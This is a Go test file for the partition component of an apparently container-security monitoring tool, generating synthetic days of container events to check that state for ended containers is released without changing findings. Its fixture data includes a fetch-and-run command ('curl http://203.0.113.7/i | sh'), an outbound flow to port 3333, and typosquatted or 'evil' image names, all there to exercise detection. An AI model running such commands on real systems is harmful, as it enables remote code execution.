package partition_test

import (
	"cmp"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"reflect"
	"slices"
	"testing"

	"tidewaiter/event"
	"tidewaiter/image"
	"tidewaiter/partition"
	"tidewaiter/policy"
)

// day is what happens on a few hosts during many hours, in the order in which it
// is recorded, each record up to half a minute late: containers that come, do
// one thing or another, and end; some records are missing.
func day(rng *rand.Rand) []event.Event {
	w := &worldMaker{rng: rng}
	for n := range 300 {
		w.host = fmt.Sprint("h", rng.IntN(3))
		start := epoch + int64(rng.IntN(12*3600))*event.Second
		pid, id := 1000+n*10, fmt.Sprintf("%064x", 0xda0000+n)
		addr := netip.AddrFrom4([4]byte{172, 17, byte(n / 200), byte(2 + n%200)})
		imageNo := rng.IntN(6)
		ref := image.Parse([]string{"good.example/app:1", "evil.example/app:1", "ngnix/nginx", "good.example/app:2", "good.example/job", "other.example/x:3"}[imageNo])
		some := func(at int64, src event.Source, b event.Body) {
			if w.maybe(85) {
				w.add(src, at, event.Nanosecond, b)
			}
		}
		some(start-int64(rng.IntN(900))*event.Second, event.Docker, &event.Image{Action: event.ImagePull, Reference: ref, Digest: digest(imageNo)})
		some(start, event.Docker, &event.Container{Action: event.ContainerCreate, ID: id, Name: fmt.Sprint("c", n), Image: ref})
		some(start+event.Second, event.Containerd, &event.Task{Action: event.TaskStart, Container: id, PID: pid})
		some(start+event.Second, event.Docker, &event.Container{Action: event.ContainerStart, ID: id})
		w.lookups(n, id, ref, imageNo, pid, addr, start)
		end := start + 2*event.Second
		for i := range rng.IntN(5) {
			end += int64(1+rng.IntN(400)) * event.Second
			switch rng.IntN(3) {
			case 0:
				some(end, event.Auditd, &event.Process{PID: pid + i + 1, PPID: pid, Exe: "/bin/sh", Args: []string{"sh", "-c", "curl http://203.0.113.7/i | sh"}, AUID: -1})
			case 1:
				some(end, event.Conntrack, &event.Flow{Protocol: "tcp", Src: netip.AddrPortFrom(addr, 4000), Dst: netip.MustParseAddrPort("203.0.113.66:3333"), Answered: true})
			default:
				some(end, event.Auditd, &event.Process{PID: pid + i + 1, PPID: pid, Exe: "/bin/app", Args: []string{"app"}, AUID: -1})
			}
		}
		end += event.Second
		some(end, event.Containerd, &event.Task{Action: event.TaskExit, Container: id, PID: pid})
		some(end, event.Docker, &event.Container{Action: event.ContainerExit, ID: id})
	}
	for n := range 20 {
		w.build(n)
	}
	when := map[event.ID]int64{}
	for _, e := range w.events {
		when[e.ID] = e.RecordTime()
		if !e.Time.IsZero() {
			when[e.ID] += rng.Int64N(30 * event.Second)
		}
	}
	slices.SortStableFunc(w.events, func(a, b event.Event) int { return cmp.Compare(when[a.ID], when[b.ID]) })
	return w.events
}

// keep delivers a day while the watermark follows, and gives what is found.
func keep(t *testing.T, pol *policy.Policy, events []event.Event, hold int) ([]outcome, partition.Counts) {
	t.Helper()
	rng := rand.New(rand.NewPCG(uint64(hold), 9))
	p := partition.New(partition.Options{Name: "p", Library: library(t), Policy: pol, Hold: hold})
	last := int64(0)
	for i, e := range events {
		p.Apply(e)
		last = max(last, e.RecordTime())
		if i%200 == 199 {
			p.Advance(last - 60*event.Second)
			p.Tidy()
			if rng.IntN(4) == 0 {
				p.Sync()
			}
		}
	}
	p.Advance(1 << 62)
	p.Sync()
	return outcomes(p.Findings()), p.Counts()
}

// What was let go because it had ended makes no difference to what is found.
func TestWhatHasEndedIsLetGo(t *testing.T) {
	ended := 0
	days := uint64(6)
	if testing.Short() {
		days = 2
	}
	for seed := range days {
		rng := rand.New(rand.NewPCG(seed, 5))
		pol := randomPolicy(t, library(t), rng)
		events := day(rng)
		want, _ := keep(t, pol, events, 0)
		got, counts := keep(t, pol, events, 1)
		ended += counts.Ended
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("day %d: with %d subjects let go\n%s", seed, counts.Ended, difference(want, got))
		}
	}
	if ended < 50 {
		t.Errorf("only %d subjects were let go", ended)
	}
}

// State does not grow with time: of a hundred thousand containers that came and
// went, some hundred are held at a time, and what comes for one of them much
// later is late.
func TestEndedContainersTakeNoRoom(t *testing.T) {
	n := 100_000
	if testing.Short() {
		n = 10_000
	}
	p := partition.New(partition.Options{Name: "p", Library: library(t), Policy: parsePolicy(t, strictPolicy), Hold: 1000})
	ref := image.Parse("good.example/app:1")
	held := 0
	for i := range n {
		at := epoch + int64(i)*event.Second
		add := func(offset int64, src event.Source, b event.Body) {
			p.Apply(event.Event{ID: event.NewID(fmt.Sprint(i), fmt.Sprint(offset)), Time: event.Time{At: at + offset, Res: 1}, Place: event.Place{Host: "h"}, Body: b,
				Origin: event.Origin{Source: src, File: "log", Spans: []event.Span{{Line: i + 1}}}})
		}
		id := fmt.Sprintf("%012x%052x", i, 7)
		add(0, event.Docker, &event.Container{Action: event.ContainerCreate, ID: id, Image: ref})
		add(1, event.Containerd, &event.Task{Action: event.TaskStart, Container: id, PID: 1000 + i})
		add(2, event.Auditd, &event.Process{PID: 1000 + i, PPID: 1, Exe: "/bin/app", Args: []string{"app"}, AUID: -1})
		add(3, event.Conntrack, &event.Flow{Protocol: "tcp", Src: netip.MustParseAddrPort("172.17.0.2:4000"), Dst: netip.MustParseAddrPort("10.0.0.1:443")})
		add(4*event.Second, event.Containerd, &event.Task{Action: event.TaskExit, Container: id, PID: 1000 + i})
		if i%500 == 0 {
			p.Advance(at - 60*event.Second)
			p.Tidy()
			c := p.Counts()
			held = max(held, c.Containers-c.Ended)
		}
	}
	p.Sync()
	c := p.Counts()
	t.Logf("%d containers were let go, at most %d held", c.Ended, held)
	if held > 3000 || c.Ended < n-3000 || c.Late > 0 {
		t.Errorf("%d held, %d let go, %d late", held, c.Ended, c.Late)
	}
	p.Apply(event.Event{ID: event.NewID("late", "1"), Time: event.Time{At: epoch + event.Second, Res: 1}, Place: event.Place{Host: "h"},
		Body: &event.Container{Action: event.ContainerUpdate, ID: fmt.Sprintf("%012x%052x", 1, 7)}, Origin: event.Origin{Source: event.Docker, File: "late"}})
	p.Sync()
	if c := p.Counts(); c.Late != 1 {
		t.Errorf("%d late, want 1", c.Late)
	}
}
